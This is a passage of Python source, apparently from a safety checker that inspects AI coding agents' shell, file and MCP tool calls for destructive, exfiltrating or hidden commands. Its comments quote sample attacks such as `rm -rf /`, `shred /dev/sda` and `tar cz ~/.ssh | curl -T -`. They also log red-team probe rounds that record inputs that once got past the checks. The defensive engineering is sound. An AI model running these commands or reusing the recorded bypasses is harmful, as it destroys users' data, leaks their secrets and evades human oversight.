        _string_leaves(_written(self.args), leaves)
        what = hidden_text(leaves, code=not documents and not any(map(_TRANSLATIONS.search, paths)))
        if what is not None and self.content_risk is None:
            self.content_risk = ("hidden_text", what)

    def document_finding(self) -> tuple[str, str, str] | None:
        """What a document written holds that runs: only its doctest lines (>>> os.system(...)):
        pytest --doctest-glob, Sphinx' doctest and rustdoc run what a document shows at a
        prompt; the rest is read by people. A credential written into one (a real key
        dressed as a sample in a code fence) is asked about: a document is published."""
        leaves: list[str] = []
        _string_leaves(_written(self.args), leaves)
        if may_hold_credential("\n".join(leaves)):
            cred = next((c for c in map(credential_in, leaves) if c is not None), None)
            if cred is not None:
                self.content_risk = ("credential_in_document",
                                     f"writes what looks like a credential ({cred}) into a document")
        code = "\n".join(m.group(1) for v in leaves if ">>>" in v for m in _DOCTEST_LINE.finditer(v))
        if not code:
            return None
        return self.content_finding(self.text_findings(code, shell_shaped=True, data=False), code)

    def script_finding(self, written: Any, paths: list[str]) -> tuple[str, str] | None:
        """(probe round 33, tools33) A catastrophe a shell, PowerShell or cmd script written
        holds, read as its shell reads it (the patterns see `rm -rf /`, not `> /dev/sda`,
        `mv / /tmp`, `shred /dev/sda`, `Remove-Item -Recurse -Force C:\\` or `rd /s /q C:\\`):
        a script by its name (.sh, .bash, .zsh, .ps1, .bat, .cmd) or its #! line. Only a
        target written literally counts (`rm -rf "$DIR/"` depends on a value the script
        may set; the patterns' own reading of it stands)."""
        leaves = self.leaves_of(written)
        # (round 36, coldtools36: cost) one RE2 pass over each path first: most name no script
        kind = next((k for rx, k in _SCRIPT_FILES for p in paths if rx.search(p)), None) \
            if any(not p.isascii() or re2_found(_SCRIPT_FILES_ANY, p) for p in paths) else None
        for text in leaves[:64]:
            if not text or len(text) > _SCRIPT_TEXT or ("\n" not in text and " " not in text and ">" not in text
                                                         and kind not in ("json", "npm", "nb")):
                continue   # (a settings file's compact JSON names its argv without a blank)
            k = kind
            if k is None:
                m = _SHEBANG.match(text)
                k = None if m is None else "ps" if m.group(1).lower() in ("pwsh", "powershell") else "sh"
            if k in (None, "nb"):
                # (round 36, coldtools36: cost) the regex (no literal prefix) only where a call
                # and one of its names are: each alternative holds a word of _ARGV_SINK_WORDS
                sinks = list(itertools.islice(_ARGV_SINK_HINT.finditer(text), 64)) \
                    if "(" in text and any(w in text for w in _ARGV_SINK_WORDS) else []
                varargs = _varargs_argv(text) if any(w in text for w in _ARGV_VARARGS_WORDS) \
                    and _ARGV_VARARGS_HINT.search(text) else []
                if sinks or varargs:
                    # (probe round 34, tools34) source code that runs an argv list
                    # (subprocess.run(['rm', '-rf', '/']), spawnSync('rm', ['-rf', homedir()]),
                    # Command::new("rm").args(...)): read as the interpreter's code is in
                    # Bash (python3 -c ... is denied): its catastrophes, not its risks
                    lead = "node -e " if any(_NODE_SOURCE.search(p) for p in paths) else "python3 -c "
                    # (each call with its lines, up to where its list may end: not the whole file)
                    calls = []
                    for m in sinks:
                        calls.append(text[text.rfind("\n", 0, m.start()) + 1:_call_end(text, m.start())])
                    calls.extend(varargs)
                    b = self.s.analyze(lead + shlex.quote("\n".join(dict.fromkeys(calls))), self.shell_cwd())
                    # (a socket far from the sh it runs is later_finding's to weigh: benign28)
                    cata = [f for f in b.catastrophic if f.code != _REMOTE_SHELL] if b.parsed else []
                    if cata:
                        return cata[0].code, cata[0].reason
                if k is None:
                    continue
            if k == "ps":
                # ((probe round 43, pwsh43) \Windows is on the working directory's drive, as in the
                # PowerShell tool: round 42's to_bash_on)
                code = powershell.to_bash_on(text, windows_drive(self.shell_cwd()))
            elif k == "cmd":
                drive = windows_drive(self.shell_cwd())
                code = "\n".join(powershell.cmd_to_bash_on(x, drive) for x in text.splitlines()[:_LATER_LINES * 4]
                                 if x.strip())
            else:
                code = _shell_lines(k, text, self.home)
                if not code:
                    continue
            for attempt in (code, "\n".join(x for x in code.splitlines() if "$" not in x and "`" not in x)):
                found = destructive.bash_findings(self.s.analyze(attempt, self.shell_cwd()), home=self.home)
                if found is not None and "$" not in found[2] and "`" not in found[2]:
                    return found[0], found[1]
                if found is None or k != "sh":
                    break
        return None

    def later_finding(self, texts: list[str], paths: list[str]) -> tuple[str, str] | None:
        """(code, reason) of a command that written text holds for another program to run
        later (probe round 28, chains): a line naming a network shell, a socket, a start-up
        or settings file or git's command-valued keys (_LATER_TRIGGER) is read as Bash,
        alone, each quoted string on it (a JSON script, an os.system argument, echo's
        text) and with printf's \\n; a source file (``paths``: .py, .js, .rb...) that names
        one is read as its interpreter's code. A destructive finding (a reverse shell, a
        catastrophe) or a write to a sensitive or runs-later path is the finding."""
        # (printf's and echo -e's \\n and \\t, a JSON string's: the lines they make too;
        # make's $$ is the shell's $)
        # (a JSON string's \\ and \" are one character: "$(printf '\\x63...')" in package.json)
        texts = texts + [u for u in (t.replace("\\n", "\n").replace("\\t", "\t").replace("$$", "$")
                                     .replace("\\\\", "\\").replace('\\"', '"')
                                     for t in texts if "\\" in t or "$$" in t) if u not in texts]
        joined = "\n".join(texts)
        requirements = any(_requirements_file(p) for p in paths)
        if not requirements and not re2_found(_LATER_ANY, joined):
            return None
        if re2_found(_CODE_LATER_ANY, joined):
            hidden = _HIDDEN_RUN.search(joined)
            if hidden is not None:
                return "hidden_code", f"runs code it decodes, downloads or builds from pieces when it runs: {hidden.group(0)[:200]}"
            sent = _CODE_SENDS_SECRET.search(joined)
            if sent is not None:
                return "sends_secret", f"sends a secret or the environment out when it runs: {sent.group(0)[:200]}"
            wrote = _CODE_WRITES_STARTUP.search(joined)
            if wrote is not None:
                return "writes_later", f"writes a start-up or SSH file when it runs: {wrote.group(0)[:200]}"
        if requirements:
            source = _PIP_SOURCE_LINE.search(joined)
            if source is not None:
                return "writes_later", f"points pip at another source for every package: {source.group(0).strip()[:200]}"
        if not re2_found(_LATER_TRIGGER_ANY, joined):
            return None
        cwd, s = self.cwd or "/", self.s
        # (a Dockerfile's RUN writes the image's files, its ~ is the container's home)
        container = bool(paths) and all(_CONTAINER_FILE.search(p) for p in paths)
        # (code, whether a start-up trigger named it: every check; whether it is a line's)
        codes: list[tuple[str, bool, bool]] = []
        loose: set[str] = set()   # a source file's code whose socket and shell are far apart
        # (a source file's whole lines are its language's, not the shell's: a Python
        # docstring's """Parse `crontab -l` output.""" names no program it hides; the
        # strings on them are still read as the shell's)
        interpreter = next((w for rx, w in _INTERPRETER_FILES for p in paths if rx.search(p)), None)
        source_lines: set[str] = set()
        for t in texts:
            if not _LATER_EITHER.search(t):
                continue
            # (a source file is read as its interpreter's code for the start-up triggers only;
            # the shell's markers are read on their lines)
            lead = interpreter if _LATER_TRIGGER.search(t) else None
            if lead is not None:
                # (a long file: the lines around each that names one, a socket's connect
                # and dup2 are near its import; the interpreter's analysis costs by length)
                if len(t) > _LATER_CODE:
                    lines = t.splitlines()
                    near = sorted({j for i, x in enumerate(lines) if _LATER_TRIGGER.search(x)
                                   for j in range(max(0, i - _LATER_NEAR), min(len(lines), i + _LATER_NEAR + 1))})
                    code = "\n".join(lines[j].strip() for j in near[:_LATER_LINES * 4])
                else:
                    code = t
                codes.append((lead + shlex.quote(code), True, False))
                if not destructive.remote_shell_in_file(t, _LATER_NEAR):
                    loose.add(codes[-1][0])
            n = 0
            for line in t.splitlines():
                if not _LATER_EITHER.search(line):
                    continue
                n += 1
                if n > _LATER_LINES:
                    break
                full = bool(_LATER_TRIGGER.search(line))
                code = _LINE_LEAD.sub("", line, count=1)
                if "SHELL" in code or "BASH" in code:
                    code = re.sub(r"\$[({](?:SHELL|BASH)[)}]", "sh", code)   # (make's $(SHELL) is the shell)
                codes.append((code.replace("$(shell ", "$(") if "$(shell " in code else code, full, True))   # (make's)
                if interpreter is not None:
                    source_lines.add(codes[-1][0])
                for m in _QUOTED.finditer(line):   # (a JSON value, an os.system argument, echo's text)
                    q = m.group(2)
                    if q and _LATER_EITHER.search(q):
                        if m.group(1) == '"':
                            q = q.replace('\\"', '"')
                        codes.append((q.replace("\\n", "\n").replace("\\t", "\t"), full, True))
        for code, full, line in dict.fromkeys(codes):
            b = s.analyze(code, cwd)
            if not b.parsed:
                continue
            if code in loose and b.catastrophic:
                # (probe round 28, benign28) a module that imports socket at the top and
                # far below sends a log file to stdout with dup2 or runs ["sh", "-c", ...]:
                # no reverse shell; its other catastrophes stand
                b = dataclasses.replace(b, catastrophic=tuple(f for f in b.catastrophic if f.code != _REMOTE_SHELL))
            hit = destructive.bash_findings(b, home=self.home)
            if hit is not None:
                return hit[0], f"{hit[1]} (written for a later run: {hit[2][:200]})"
            if line and not container and code not in source_lines and (b.dynamic or any(f.code == "shell_reads_stdin" for f in b.risky)):
                # ($(echo … | base64 -d), tr … <<< '…' | sh, c=cu_rl; $c …: a command line
                # whose program is only known when it runs)
                return "hidden_code", f"runs a command it names only when it runs: {code[:200]}"
            if not full:
                continue
            if any(f.code == "network_upload" for f in b.risky) and any(
                    s.sensitive.match(normalize_path(r, cwd=cwd, home=self.home)) for r in b.read_paths + b.tree_reads):
                return "sends_secret", f"sends a secret out when it runs: {code[:200]}"   # (tar cz ~/.ssh | curl -T -)
            if container:
                # (benign28: a Dockerfile's RUN installs the image's crontab, sets the
                # image's setuid bits, writes the image's start-up files; the host's are
                # untouched)
                continue
            risky = next((f for f in b.risky if f.code in _LATER_RISKY), None)
            if risky is not None:
                return "writes_later", f"{risky.reason} when it runs: {code[:200]}"
            for w in b.write_paths:
                n_ = normalize_path(w, cwd=cwd, home=self.home)
                entry = s.sensitive.match(n_) or s.runs_later.match(n_)
                if entry:
                    return "writes_later", f"writes {n_} ({entry}) when it runs: {code[:200]}"
            key = next((k for k in map(_git_config_set, b.commands) if k), None)
            if key is not None:
                return "writes_later", f"sets git's {key}, a program git runs, when it runs: {code[:200]}"
        return None

    def content_finding(self, hit: tuple[str, str] | None, text: str) -> tuple[str, str, str] | None:
        """A finding in a file's content: asked about later (content_risk), running the
        file is a command of its own; denied now in bypass, where no one is asked, unless
        it is only an installer line or chmod 777."""
        if hit and self.mode == BYPASS and hit[0] not in _CONTENT_PLAIN_ASKS:
            return hit[0], hit[1], text
        if hit:
            self.content_risk = hit
        return None

    def content_ask(self) -> Decision | None:
        if self.content_risk is None:
            return None
        code, reason = self.content_risk
        if code == "hidden_text":
            return self.decide(ASK, REASON_HIDDEN_TEXT.format(what=reason), "risky_command", code,
                               details={"finding": code})
        return self.decide(ASK, REASON_CONTENT.format(reason=reason), "risky_command", code, details={"finding": code})

    def text_findings(self, text: str, *, shell_shaped: bool, data: bool = True,
                      sql: bool = True) -> tuple[str, str] | None:
        """destructive.text_findings, remembered for short texts (they repeat)."""
        if len(text) > _MEMO_TEXT:
            return destructive.text_findings(text, shell_shaped=shell_shaped, data=data, sql=sql)
        key = ("text", text, shell_shaped, data, sql)
        hit = self.s.memo.get(key, self)
        if hit is self:
            hit = destructive.text_findings(text, shell_shaped=shell_shaped, data=data, sql=sql)
            _remember(self.s.memo, key, hit)
        return hit

    def shell_args(self) -> list[str]:
        """Shell commands another tool runs (an MCP shell's "command", "cmd", "script")."""
        if self._shell_args is None:
            out: list[str] = []
            if not (self.is_bash or self.is_read or self.is_edit or self.tool in _NAMED_COMMAND_TOOLS):
                browser, runner, terminal = _shell_traits(self.tool)
                if not runner and not terminal and type(self.args) is dict and len(self.args) <= _ARGS_ITEMS \
                        and all(type(v) in _PLAIN_TYPES for v in self.args.values()) \
                        and all(type(k) is str and len(k) <= 256 and _inert_key(k) for k in self.args) \
                        and dialects.cli_program(self.tool) is None:
                    # (round 36, coldtools36: cost) no code runner, no terminal, no CLI-named
                    # tool, plain values only, and no key a command, an argv or a program may
                    # be under: _collect_shell_args finds nothing (its other keys are read
                    # only beside a program, for a runner or a terminal, or under an object)
                    self._shell_args = out
                    return out
                codes: set[str] | None = set() if runner else None
                # (a tool named for starting a process: its argv under args/argv is the command)
                argv_tool = terminal or (_name_search(_ARGV_RUNNER_TOOL, self.tool.split("__")[-1][:128]) is not None
                                         and not any(_sql_arg(k, False) for k in self.args))
                _collect_shell_args(self.args, out, 0, browser, runner, codes, terminal, self.cwd or "", argv_tool)
                if terminal and not out:
                    # a shell tool's own argument, whatever its key (mcp__x__bash {"q": ...}):
                    # every plain string that names no path, directory or language is typed
                    out.extend(v for k, v in self.args.items()
                               if isinstance(k, str) and isinstance(v, str) and v.strip()
                               and not _PATH_ARG_NAME.search(k) and _key_spelling(k) not in _TERMINAL_DATA_KEYS
                               and (_key_words(k[:128]) or ("",))[-1] not in _NAMING_WORDS)
                if codes:
                    self._code_args = codes
                program = dialects.cli_program(self.tool)
                if program is not None:
                    # (probe round 32, mcp32) a CLI-named tool's words without its program
                    # ({"command": "run -v /:/h alpine rm -rf /h/home"} to mcp__docker__docker,
                    # {"args": "-c core.sshCommand=... fetch"} to mcp__git__git): also the line
                    # the server makes of them, PROGRAM WORDS
                    words = [v for k, v in self.args.items() if isinstance(k, str) and isinstance(v, str)
                             and v.strip() and dialects.canon(k) in dialects.CLI_ARGV_KEYS]
                    # (a string the tool's shell reading took is also read as typed)
                    out.extend([f"{program} {c}" for c in [*out[:16], *(w for w in words[:4] if w not in out)]
                                if not c.startswith("\x00")
                                and (c.split(None, 1) or [""])[0].rsplit("/", 1)[-1] != program])
                windows = _windows_shell_named(self.args) if out and "shell" in self.args else None
                if out and (windows == "ps" or _name_search(_POWERSHELL_TOOL, self.tool)):
                    # (Claude Code's PowerShell tool: its command is PowerShell, read as the
                    # Bash it stands for; (probe round 51, tools52) and a shell tool's whose
                    # "shell" names PowerShell: win-cli's, Desktop Commander's)
                    drive = windows_drive(self.shell_cwd())   # (\Windows is the cwd's drive's; round 42)
                    out = [c if c.startswith("\x00") else powershell.to_bash_on(c, drive) for c in out]
                elif windows == "cmd":
                    # (...and cmd.exe's: its lines read as cmd reads them, dir, rd /s /q)
                    drive = windows_drive(self.shell_cwd())
                    out = [c if c.startswith("\x00") else powershell.cmd_to_bash_on(c, drive) for c in out]
                elif windows == "fish":
                    # ((probe round 52, tools53) and fish's: its lines are fish -c LINE, read
                    # as Bash reads fish (its plain text as bash's; its own quoting, (cmd)
                    # and builtins not plain: echo 'x\' '; git push --force #' was AAAAA)
                    out = [c if c.startswith("\x00") else "fish -c " + shlex.quote(c) for c in out]
                elif out:
                    # (probe round 29) a line that starts Windows' own shell (cmd /c rd /s /q
                    # C:\, powershell -c ...) is typed with Windows' quoting: read as the
                    # PowerShell tool's line is, not as Bash (where C:\ escapes the line's end)
                    drive = windows_drive(self.shell_cwd())
                    read = [powershell.windows_line_to_bash_on(c, drive) if not c.startswith("\x00") and powershell.windows_shell_line(c) else c
                            for c in out]
                    # ((probe round 44, tools44) a line typed for Windows' shells, a cmdlet first or
                    # rd /s /q DIR, is also read as they read it: Remove-Item -Recurse -Force
                    # C:\Users\dev given to mcp__shell__execute_command was asked, so bypass ran it)
                    windows = [powershell.windows_line_to_bash_on(c, drive) for c in out
                               if not c.startswith("\x00") and dialects.windows_typed(c)]
                    if windows:
                        read = read + [w for w in windows if w not in read]
                    if codes:
                        # (a runner's code stays code when read so: pwsh -Command ... from a
                        # {"language": "powershell"} is asked as python3 -c is)
                        codes.update(r for c, r in zip(out, read) if c in codes)
                    out = read
                if out:
                    cwd = self.shell_cwd()
                    out = [c if c.startswith("\x00") or (codes and c in codes)
                           else _also_where_named(c, c, self.args, cwd) for c in out]
                    out.extend(_env_exports(self.args))
            self._shell_args = out
        return self._shell_args

    def shell_cwd(self) -> str:
        """The directory another tool's shell command runs in: its own cwd/workdir
        argument ({"command": "rm -rf .", "cwd": "/"} deletes /), else the call's."""
        if self._shell_cwd is None:
            cwd = self.cwd or "/"
            for k, v in self.args.items():
                if isinstance(k, str) and _key_spelling(k) in _SHELL_CWD_KEYS:
                    if isinstance(v, str) and v.strip():
                        # (probe round 36, published10) Zed's terminal names its directory
                        # from the project root's name ("project/..": the home)
                        v = dialects.zed_path(v.strip(), self.cwd) if self.tool == "terminal" and k == "cd" else v
                        # (probe round 44, tools44) read as a tool's path is, for the worst:
                        # "$HOME", "%USERPROFILE%", a file: URI name the home, not ./$HOME
                        v = spelling.tool_path_spelling(v) or v
                        cwd = normalize_path(v.strip(), cwd=self.cwd or "/", home=self.home)
                    elif v is not None and not isinstance(v, str):
                        cwd = "/"   # (a directory not read as text: taken for the worst, /)
                    break
            self._shell_cwd = cwd
        return self._shell_cwd

    def control_off(self, written: Any, paths: list[str]) -> tuple[str, str, str] | None:
        """(probe round 35, tools35) A security control's file written with the text that
        turns it off (destructive.control_off_written): denied, as Bash's write is."""
        if not any(p.startswith(("/etc/s", "/sys/fs/selinux", "/proc/sys/kernel")) for p in paths):
            return None   # (the cheap test first: no control's file)
        leaves = self.leaves_of(written)
        named = {v for v in map(written.get, PATH_KEYS) if isinstance(v, str)} if isinstance(written, Mapping) else set()
        hit = destructive.control_off_written(paths, [x for x in leaves if x not in named])
        return None if hit is None else (hit[0], hit[1], args_text(written)[:500])

    def writes_files(self) -> bool:
        """Another tool whose name says it writes files (mcp__fs__write_file), or one
        given a patch to apply (its headers name the files it writes)."""
        if self._writes_files is None:
            self._writes_files = self.is_other and isinstance(self.tool, str) \
                and ((_writes_name(self.tool) and not (self.browser and _name_search(_BROWSER_READS_NAME, self.tool)))
                     or bool(self.patch_paths()))
        return self._writes_files

    def remote_write(self) -> bool:
        """Another tool that writes a hosted service's files (a GitHub server's tool given an
        owner and a repository): the paths it names are no files here."""
        return self.writes_files() and bool(
            _name_search(_HOSTED_SERVER, self.tool.split("__")[1] if self.tool.count("__") >= 2 else "")) \
            and any(isinstance(k, str) and k.lower() in _REMOTE_KEYS for k in self.args)

    def dialect_writer(self) -> bool:
        """Another agent's file tool (write_file, replace, apply_patch, delete_file...) that
        the policy gives no identity of its own, judged here as sent (its shape was not
        known exactly, or it is Codex's apply_patch): a file tool, as an MCP server's is."""
        if self._dialect_writer is None:
            self._dialect_writer = self.is_other and dialects.writer(self.tool) \
                and not _dialect_named(self.s, self.tool)
        return self._dialect_writer

    def glob_args(self) -> list[str]:
        """Glob patterns another tool reads files by (Gemini's read_many_files include,
        a search tool's glob), anchored at the tool's path or the working directory."""
        out: list[str] = []
        base = (self.file_paths() or [self.cwd or "/"])[0]
        for k, v in self.args.items():
            if not (isinstance(k, str) and _key_spelling(k) in _GLOB_KEYS):
                continue
            for g in ([v] if isinstance(v, str) else v if isinstance(v, (list, tuple)) else ())[:_ARGS_ITEMS]:
                if isinstance(g, str) and g.strip():
                    for part in (x for alt in _glob_alternatives(g.strip()) for x in _GLOB_SPLIT.split(alt)):
                        if part:
                            out.append(normalize_path(part if part.startswith(("/", "~")) else
                                                      base.rstrip("/") + "/" + part, cwd=self.cwd, home=self.home))
        return out

    def patch_paths(self) -> list[str]:
        """The files a patch given to another tool writes (mcp__fs__apply_patch, Codex's
        apply_patch, a git apply tool): the paths its headers name (+++ b/x, --- a/x,
        *** Add/Update/Delete File: x, *** Move to: x, rename/copy from/to x, diff --git),
        each as git reads it (a/ b/ stripped) and as patch -p0 does; relative to the
        tool's own working directory. Read only where the tool's name says it writes or
        applies, or the argument is named for a patch or a diff."""
        if self._patch_paths is None:
            out: list[str] = []
            if self.is_other and isinstance(self.tool, str) and not (
                    _name_search(_HOSTED_SERVER, self.tool.split("__")[1] if self.tool.count("__") >= 2 else "")
                    and any(isinstance(k, str) and k.lower() in _REMOTE_KEYS for k in self.args)):
                # (a pull request's diff on a hosted repository is no file here)
                named = _name_search(_PATCH_TOOL, self.tool) is not None
                texts: list[str] = []
                for k, v in self.args.items():
                    if named or (isinstance(k, str) and _key_spelling(k) in _PATCH_KEYS):
                        _string_leaves(v, texts)
                    elif type(v) is str:
                        # (round 36, coldtools36: cost) a plain string is its only leaf
                        if "***" in v and _PATCH_ENVELOPE.search(v):
                            texts.append(v)
                    elif type(v) in _PLAIN_TYPES:
                        continue   # (a number, a flag, null: no leaf)
                    else:
                        # Codex's envelope under any name (a shell tool given apply_patch,
                        # a tool named as the operator's own): the files it writes
                        leaves: list[str] = []
                        _string_leaves(v, leaves)
                        texts.extend(t for t in leaves if "***" in t and _PATCH_ENVELOPE.search(t))
                base = self.shell_cwd() if texts else ""   # (round 36: read only where there is a patch)
                for t in texts:
                    if len(t) > _ARGS_TEXT * 16:
                        out.append(_UNREADABLE_PATH)
                        continue
                    if not PATCH_HINT.search(t):
                        if _PATCH_ENVELOPE.search(t):
                            # Codex's envelope with no header read (***  Add File:, *** add
                            # file:): the files it writes are not known (probe round 25)
                            out.append(_UNREADABLE_PATH)
                        continue
                    for raw in _patch_targets(t):
                        # (probe round 40, winpaths40) a patch's file is a tool's path: a Windows
                        # spelling (..\other\a.txt, C:\Users\dev\.bashrc) read as the Write tool's is
                        out.append(raw if raw == _UNREADABLE_PATH else normalize_path(
                            posix_spelling(raw, windows_drive(base)), cwd=base, home=self.home))
            self._patch_paths = list(dict.fromkeys(out))
        return self._patch_paths

    def threat_rules(self) -> Decision | None:
        s = self.s
        if not s.threat_sets:
            return None
        texts = {"tool": self.tool, "hash": self.r.tool_hash if isinstance(self.r.tool_hash, str) else ""}
        if "args" in s.threat_sets:
            key = self.bash_key("threat-text")
            text = None if key is None else s.memo.get(key)
            if text is None:
                text = self.args_text()
                if self.analysis is not None and self.analysis.commands:
                    text += "\n" + "\n".join(" ".join(c.argv) for c in self.analysis.commands)
                    # (probe round 32, rules32) the other words a command runs under (CURL x
                    # is curl x on a case-insensitive file system, npx curl x, docker exec
                    # web curl x), as deny rules meet them
                    more = [" ".join(w) for c in self.analysis.commands for w in rule_alias_words(c.argv)]
                    if more:
                        text += "\n" + "\n".join(more)
                elif not self.is_bash:
                    # an MCP shell's command, as Bash's is seen: its canonical words too
                    # (mcp__shell__exec {"cmd": "r\\m -r\"f\" /x"} is rm -rf /x)
                    for code in self.shell_args()[:16]:
                        b = self.s.analyze(code, self.shell_cwd())
                        if b.commands:
                            text += "\n" + "\n".join(" ".join(c.argv) for c in b.commands)
                if key is not None:
                    _remember(s.memo, key, text)
            texts["args"] = text
        matched: set[int] = set()
        for fld, (pset, idx) in s.threat_sets.items():
            text = texts[fld]
            if len(text) > _MEMO_TEXT:
                hits = [idx[k] for k in pset.match(text)]
            else:   # tool names, hashes and commands repeat: remember their hits
                key = (fld, text)
                hits = s.memo.get(key)
                if hits is None:
                    hits = [idx[k] for k in pset.match(text)]
                    _remember(s.memo, key, hits)
            matched.update(hits)
        if not matched:
            return None
        deny_rule = None
        for i in sorted(matched):
            r = s.threat_rules[i]
            if r.action == "flag":
                self.flags.append(Flag(r.name, DENY, r.reason, r.field))
                self.events.append(ThreatEvent(KIND_RULE_FLAG, r.name, r.reason))
            elif deny_rule is None:
                deny_rule = r
        if deny_rule is not None:
            return self.deny1("threat_rule", REASON_THREAT_RULE.format(name=deny_rule.name), KIND_RULE_DENY,
                              rule=deny_rule.name, detail=deny_rule.reason)
        return None

    # -- stage 2 -------------------------------------------------------------------------
    def stage2(self, partial: bool = True) -> Decision:
        key = self.bash_key("stage2") if partial else None
        if key is None:
            return self._stage2(partial)
        hit = self.s.memo.get(key)
        if hit is None:
            d = self._stage2(partial)
            # (stage 2 adds no flags nor threat events: they are stage 1's, set on a hit;
            # the caller gets details of its own, the memo keeps a copy)
            _remember(self.s.memo, key, (d, _copy(d.details), self.no_suggestions))
            return d
        d, details, self.no_suggestions = hit
        return _new_decision(d.decision, d.reason, d.check, d.rule, tuple(self.flags), tuple(self.events), (), d.llm,
                             d.bypass_immune, d.mode, _copy(details))

    def bash_key(self, what: str) -> tuple | None:
        """The memo key of a result that depends only on a Bash call's command, its
        other arguments, the tool, the directories and the mode (stage 2 of a repeated
        command): None when an argument is not a plain value."""
        if self._bash_key is _MISSING:
            self._bash_key = self._call_key() if self.is_bash and self.command is not None else None
        return None if self._bash_key is None else (what,) + self._bash_key

    def _call_key(self) -> tuple | None:
        """(tool, command, the other arguments with their types - 1, 1.0 and True are
        different JSON -, cwd, project, mode), or None when an argument is not a plain value."""
        rest = []
        for k, v in self.args.items():
            if k == "command":
                continue
            if type(v) not in _PLAIN_TYPES:
                return None
            rest.append((k, type(v), v))
        return self.tool, self.command, tuple(rest), self.cwd, self.base, self.mode

    def _stage2(self, partial: bool = True) -> Decision:
        s, mode = self.s, self.mode
        if self.is_bash and self.command is None:
            return self.decide(DENY, REASON_NO_COMMAND, "unparseable")
        if self.is_edit:
            key, raw, ok = self.file_path_arg()
            if not ok:
                return self.decide(DENY, REASON_NO_PATH.format(tool=self.tool, key=key or "file_path"), "unparseable")
        # 1. operator deny / ask rules and guard plugins
        plugin = self.guard_verdicts()
        blocking = self.blocking_rule()
        for verdict in (DENY, ASK):
            if blocking is not None and blocking[0] == verdict and (verdict == DENY or partial):
                if verdict == ASK:
                    # an operator's ask rule asks at least: what the built-in checks deny
                    # (rm -rf /home under ask: [Bash]) stays denied
                    rest = self._stage2(partial=False)
                    if rest.decision == DENY and rest.check != "mode_default":
                        return rest
                tmpl = REASON_DENY_RULE if verdict == DENY else REASON_ASK_RULE
                return self.decide(verdict, tmpl.format(rule=blocking[1]), "permission_rule", blocking[1])
            if blocking is not None and blocking[0] == ASK_PARTIAL and verdict == ASK and partial \
                    and self.sends_off_machine():
                # (probe round 43, redteam43) a whole directory holding what a Read deny
                # rule keeps, read to leave the machine (rsync -az . host:, tar czf - . | ssh
                # host, python3 -m http.server): the kept file leaves with it, denied
                return self.decide(DENY, REASON_DENY_RULE.format(rule=blocking[1]), "permission_rule", blocking[1])
            if blocking is not None and blocking[0] == ASK_PARTIAL and verdict == ASK and partial:
                # a rule the call may reach: asked, unless the rest of the decision denies
                rest = self._stage2(partial=False)
                if rest.decision == DENY:
                    return rest
                self.no_suggestions = True
                return self.decide(ASK, REASON_PARTIAL_RULE.format(rule=blocking[1]), "permission_rule",
                                   blocking[1])
            for gid, pat in plugin:
                if pat.verdict == verdict:
                    return self.decide(verdict, REASON_GUARD.format(id=gid, reason=pat.reason or verdict),
                                       "permission_rule", f"guard:{gid}")
        a = self.analysis
        # 2. dangerous commands; the unparseable
        if a is not None:
            if a.dangerous:
                f = a.dangerous[0]
                return self.decide(DENY, REASON_DANGEROUS.format(reason=f.reason, part=f.part), "dangerous_command",
                                   f.code, details={"finding": f.code, "part": f.part})
            if not a.parsed:
                self.no_suggestions = True
                return self.decide(DENY if mode == EXPLORE else ASK,
                                   REASON_UNPARSEABLE.format(error=a.parse_error or "unknown"), "unparseable",
                                   details={"parse_error": a.parse_error})
        # 2b. the Write/Edit tools (and other tools named for writing: an MCP
        # write_file) writing a critical system file: denied as the Bash write of it
        # is, in every mode; a shell command another tool runs: its dangerous parts
        if self.is_edit or self.writes_files():
            for p in self.file_paths():
                if p in CRITICAL_FILES or p.startswith(_CRITICAL_DIRS) or critical_file(p):
                    return self.decide(DENY, REASON_DANGEROUS.format(reason="writes a critical system file", part=p),
                                       "dangerous_command", "critical_file_write",
                                       details={"finding": "critical_file_write", "part": p})
                if _raw_device(p):
                    # (probe round 31, mcp31) a disk or memory device written by a file tool
                    # (Write /dev/sda, an MCP write_file of /dev/nvme0n1): as `> /dev/sda` is
                    return self.decide(DENY, REASON_DESTRUCTIVE.format(reason="writes to a raw device"),
                                       "destructive_pattern", "device_write",
                                       details={"finding": "device_write", "part": p})
        if self.is_other and isinstance(self.tool, str) \
                and _name_search(_DISK_WRITER_TOOL, self.tool.split("__")[-1]) \
                and not _name_search(_DISK_READER_TOOL, self.tool.split("__")[-1]):
            # (probe round 31, mcp31) a tool named for what erases a disk (mcp__x__dd,
            # format_disk, mkfs, wipe, shred) given a disk or partition: as `mkfs /dev/sda1` is
            dev = _raw_device_arg(self.args)
            if dev:
                return self.decide(DENY, REASON_DESTRUCTIVE.format(reason="writes to a raw device"),
                                   "destructive_pattern", "device_write",
                                   details={"finding": "device_write", "part": dev})
        if self.is_other and isinstance(self.tool, str):
            # (probe round 31, mcp31) a tool named for what the deny list names (shutdown,
            # reboot, power_off; kill of PID 1 or -1): as the command line it stands for
            for code in _machine_commands(self.tool, self.args):
                b = s.analyze(code, self.shell_cwd())
                if b.dangerous:
                    f = b.dangerous[0]
                    return self.decide(DENY, REASON_DANGEROUS.format(reason=f.reason, part=f.part),
                                       "dangerous_command", f.code, details={"finding": f.code, "part": f.part})
        if self.is_other and self.tool not in s.tools:
            # (mcp__shell__run {"command": "echo x > /etc/passwd"}, the PowerShell tool's
            # Set-Content /etc/passwd: denied as the Bash command is)
            for code in self.shell_args()[:16]:
                if code.startswith("\x00"):
                    continue
                b = s.analyze(code, self.shell_cwd())
                if b.dangerous:
                    f = b.dangerous[0]
                    return self.decide(DENY, REASON_DANGEROUS.format(reason=f.reason, part=f.part), "dangerous_command",
                                       f.code, details={"finding": f.code, "part": f.part})
        # 2c. a file on another machine by a UNC path (\\host\share, //host/share): Windows
        # offers the user's credentials to that host on opening it; asked in every mode, BYPASS
        # included, as PowerShell's is (the Read tool too: probe round 26)
        if not self.is_bash:
            if self.is_read or self.is_edit:
                raws = [self.file_path_arg()[1] or ""]
                raws += [v for k in ("path", "notebook_path", "dir_path", "directory") for v in (self.args.get(k),)
                         if isinstance(v, str)]
            else:
                raws = self.path_args()
            host = next((h for h in (remote_share(r) for r in raws[:64] if r) if h), None)
            if host is not None:
                self.no_suggestions = True
                return self.decide(DENY if mode == EXPLORE else ASK, REASON_REMOTE_FILE.format(host=host),
                                   "risky_command", "remote_file", details={"finding": "remote_file"})
        # 3. sensitive paths (bypass-immune)
        # (explore denies every edit anyway: seed 002 says the read-only verdict is final there)
        is_other = self.is_other
        if is_other:
            self.file_paths()   # (reads the arguments: sets self.unreadable)
            if self.unreadable:
                # a path past what is read (too deep, too many, too long): not taken as none
